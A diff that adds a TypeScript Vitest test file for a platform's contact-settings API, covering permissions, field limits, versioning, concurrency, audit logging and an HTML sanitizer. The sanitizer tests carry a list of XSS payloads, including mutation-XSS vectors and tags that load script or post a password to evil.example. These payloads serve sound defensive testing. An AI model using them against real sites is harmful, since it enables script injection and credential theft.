@@ -1,0 +1,235 @@
+/** The public contact data and the rules people agree to (S2 "Contact settings", §5; GAP1). */
+import fc from 'fast-check'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import type { Sent } from '#contract/call.ts'
+import { contact } from '#contract/contact.ts'
+import { roleNames } from '#contract/roles.ts'
+import { contactWords as words } from '#contract/words/contact.ts'
+import { shapeWords } from '#contract/words/shape.ts'
+import { contactFaults } from '#contract/contact-rules.ts'
+import { cleanRules } from '#server/contact/clean.ts'
+import { platformContact } from '#server/contact/index.ts'
+import { makeContact } from '#server/db/demo/contact.ts'
+import { openWorld, type Person, type World } from '../world.ts'
+
+let world: World
+let admin: Person
+beforeAll(async () => {
+  world = await openWorld()
+  admin = await world.person('admin', { role: 'Admin' })
+})
+afterAll(async () => {
+  expect(world.errors).toEqual([])
+  await world.close()
+})
+
+const whole: Sent<typeof contact.update> = {
+  ContactId: 1,
+  Name: 'بارنوبت',
+  SupportTell: '۰۲۱۹۱۰۰۱۲۳۴',
+  Tell: '02188880000',
+  Mobile: '09121234567',
+  Fax: '02188880001',
+  Email: 'info@barnobat.ir',
+  Site: 'https://barnobat.ir',
+  Address: 'تهران، میدان آزادی',
+  Rules: '<h2>قوانین</h2><p>یک</p>',
+}
+const update = (said: Partial<typeof whole>, headers?: Record<string, string>, by = admin) =>
+  by.say(contact.update, { ...whole, ...said }, headers)
+const versions = async () => (await world.db.selectFrom('contact').select('version').execute()).length
+const newest = async () => (await world.stranger.say(contact.get, {})).data!
+
+test('before anybody wrote any, there is none', async () => {
+  expect(await world.stranger.say(contact.get, {})).toMatchObject({ status: 200, data: null })
+  expect(await platformContact(world.db)).toBeNull()
+})
+
+test.each(roleNames.filter((role) => role !== 'Admin'))('%s may not write it', async (role) => {
+  const ids = { companyId: world.cast.companies.sepehr.id, ownerId: world.cast.owners.mina, hallId: world.cast.halls.rajaei }
+  const other = await world.person(`other${role}`, { role, ...ids })
+  expect(await update({}, {}, other)).toMatchObject({ status: 403, reason: 'not-allowed' })
+  expect(await versions()).toBe(0)
+})
+
+test('nor may a stranger', async () => {
+  expect(await update({}, {}, world.stranger)).toMatchObject({ status: 401 })
+})
+
+test('a name is needed; what cannot be an address of mail or of a site is said at its field, all at once', async () => {
+  const { status, errors } = await update({ Name: '  ', Email: 'info@', Site: 'javascript:alert(1)' })
+  expect(status).toBe(422)
+  expect(errors).toEqual({ Name: words.name, Email: words.email, Site: words.site })
+  expect(await versions()).toBe(0)
+})
+
+test.each([
+  ['Name', 'ن'.repeat(151), shapeWords.tooLong(150)],
+  ['SupportTell', '9'.repeat(12), shapeWords.tooLong(11)],
+  ['Tell', '021-8888', shapeWords.onlyDigits],
+  ['Mobile', '9'.repeat(12), shapeWords.tooLong(11)],
+  ['Fax', 'fax', shapeWords.onlyDigits],
+  ['Email', 'a'.repeat(101), shapeWords.tooLong(100)],
+  ['Site', 'a'.repeat(201), shapeWords.tooLong(200)],
+  ['Address', 'ا'.repeat(551), shapeWords.tooLong(550)],
+  ['Rules', 'ا'.repeat(100_001), shapeWords.tooLong(100_000)],
+])('%s has a limit', async (field, value, sentence) => {
+  const { status, errors } = await update({ [field]: value })
+  expect(status).toBe(400)
+  expect(errors).toEqual({ [field]: sentence })
+})
+
+test('what is written is what the public reads, spelt as the specification spells it', async () => {
+  const { status, message } = await update({})
+  expect(status).toBe(200)
+  expect(message).toBe(words.saved)
+  expect(await newest()).toEqual({
+    contactId: 1,
+    name: 'بارنوبت',
+    suportTell: '02191001234',
+    tell: '02188880000',
+    mobile: '09121234567',
+    fax: '02188880001',
+    email: 'info@barnobat.ir',
+    site: 'https://barnobat.ir',
+    address: 'تهران، میدان آزادی',
+    rules: '<h2>قوانین</h2><p>یک</p>',
+    rulesVersion: 1,
+    version: 1,
+    changedAt: world.clock.now.toISOString(),
+  })
+  // What the paper of a permit says at its foot.
+  expect(await platformContact(world.db)).toEqual({ name: 'بارنوبت', tell: '02191001234' })
+})
+
+test('the version of the rules grows with the rules and with nothing else', async () => {
+  await update({ Name: 'بارنوبت ایران' }, { 'If-Match': '1' })
+  expect(await newest()).toMatchObject({ version: 2, rulesVersion: 1 })
+  // The same rules, however they are typed.
+  await update({ Rules: ' <H2 onclick="x()">قوانین</H2><p>یک</p><script>x</script> ' }, { 'If-Match': '2' })
+  expect(await newest()).toMatchObject({ version: 3, rulesVersion: 1 })
+  await update({ Rules: '<p>دو</p>' }, { 'If-Match': '3' })
+  expect(await newest()).toMatchObject({ version: 4, rulesVersion: 2 })
+})
+
+test('whoever read an older version overwrites nothing', async () => {
+  const before = await newest()
+  const { status, reason, message } = await update({ Name: 'دیگری' }, { 'If-Match': '1' })
+  expect({ status, reason, message }).toEqual({ status: 409, reason: 'stale-version', message: words.stale })
+  expect(await newest()).toEqual(before)
+})
+
+test('of ten at once with the same version one is taken', async () => {
+  const { version } = await newest()
+  const answers = await Promise.all(
+    Array.from({ length: 10 }, (_, i) => update({ Name: `نام ${i}` }, { 'If-Match': String(version) })),
+  )
+  expect(answers.map(({ status }) => status).toSorted()).toEqual([200, ...Array.from({ length: 9 }, () => 409)])
+  expect((await newest()).version).toBe(version + 1)
+})
+
+test('every version tells the audit who made it, and stands', async () => {
+  await update({ Name: 'نامی دیگر', Rules: '<p>سه</p>' })
+  await update({ Name: 'بارنوبت', Rules: '<p>چهار</p>' })
+  const { version, rulesVersion } = await newest()
+  const events = await world.db.selectFrom('audit_event').selectAll().where('call', '=', 'contact.update').orderBy('id').execute()
+  expect(events).toHaveLength(version)
+  expect(events.at(-1)).toMatchObject({
+    member_id: admin.id,
+    role: 'Admin',
+    entity: 'contact',
+    entity_id: '1',
+    detail: {
+      version,
+      before: { Name: 'نامی دیگر', rulesVersion: rulesVersion - 1 },
+      after: { Name: 'بارنوبت', rulesVersion },
+    },
+  })
+  expect(await versions()).toBe(version)
+})
+
+const hostile = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<p onclick="alert(1)" onmouseover=alert(1) style="background:url(javascript:alert(1))">x</p>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" &#106;avascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<style>@import "//evil.example/x.css";*{color:red}</style>',
+  '<link rel=stylesheet href=//evil.example>',
+  '<iframe src="//evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data=x></object><embed src=x><base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example">',
+  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
+  '<textarea><script>alert(1)</script></textarea><xmp><script>alert(1)</script></xmp>',
+  '<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
+  '<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>',
+  '<template><script>alert(1)</script></template><marquee onstart=alert(1)>',
+  '<a target=_blank rel=opener id=x class=y href="https://example.ir">x</a>',
+]
+
+/** Every tag with its attributes, of text that is HTML. */
+const tagsOf = (html: string) => [...html.matchAll(/<\/?([a-z0-9]+)((?:\s[^>]*)?)\/?>/gi)]
+const plain = /^(h[2-4]|p|br|ul|ol|li|strong|b|em|i|a|blockquote|hr)$/
+
+function mustBeHarmless(html: string) {
+  for (const [whole, name, rest] of tagsOf(html)) {
+    expect(name, whole).toMatch(plain)
+    expect(rest, whole).toMatch(
+      /^(\s*\/?| href="(https?:|tel:|mailto:|[#/](?!\/))[^"<>]*"( rel="noopener noreferrer nofollow")?| rel="noopener noreferrer nofollow")$/,
+    )
+  }
+  // What is left of a tag's sign is text.
+  expect(html.replace(/<\/?[a-z][^>]*>/gi, '')).not.toMatch(/[<>]/)
+}
+
+test.each(hostile)('nothing of %s runs or loads', async (html) => {
+  const cleaned = cleanRules(html)
+  mustBeHarmless(cleaned)
+  expect(cleanRules(cleaned)).toBe(cleaned)
+  mustBeHarmless((await update({ Rules: html })).data!.rules)
+})
+
+test('a link to a page, a phone and a mailbox stays; a heading of the page becomes one of the text', () => {
+  expect(cleanRules('<h1>قوانین</h1><a href="https://barnobat.ir/a?b=1&amp;c=2">الف</a><a href="tel:02191001234">ب</a>')).toBe(
+    '<h2>قوانین</h2><a href="https://barnobat.ir/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">الف</a><a href="tel:02191001234" rel="noopener noreferrer nofollow">ب</a>',
+  )
+})
+
+/** What its first cleaning leaves is read otherwise by the second one. */
+const twice = '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'
+
+test('whatever is mixed of hostile parts is harmless, and cleaning again changes nothing', () => {
+  const part = fc.oneof(
+    fc.constantFrom(...hostile),
+    fc.string({ maxLength: 20 }),
+    fc.constantFrom('<', '>', '"', '</', '&lt;', '<p', '-->'),
+  )
+  fc.assert(
+    fc.property(fc.array(part, { maxLength: 8 }), (parts) => {
+      const cleaned = cleanRules(parts.join(''))
+      mustBeHarmless(cleaned)
+      expect(cleanRules(cleaned)).toBe(cleaned)
+    }),
+    { numRuns: 300, examples: [[[twice, twice]]] },
+  )
+})
+
+test('the demo’s rules are what saving them would make of them, and its fields have no fault', () => {
+  const { rules, name, email, site, support_tell } = makeContact(world.clock.now)
+  expect(cleanRules(rules!)).toBe(rules)
+  mustBeHarmless(rules!)
+  expect(contactFaults({ Name: name, Email: email!, Site: site! })).toEqual({})
+  expect(support_tell).toMatch(/^0\d{10}$/)
+})
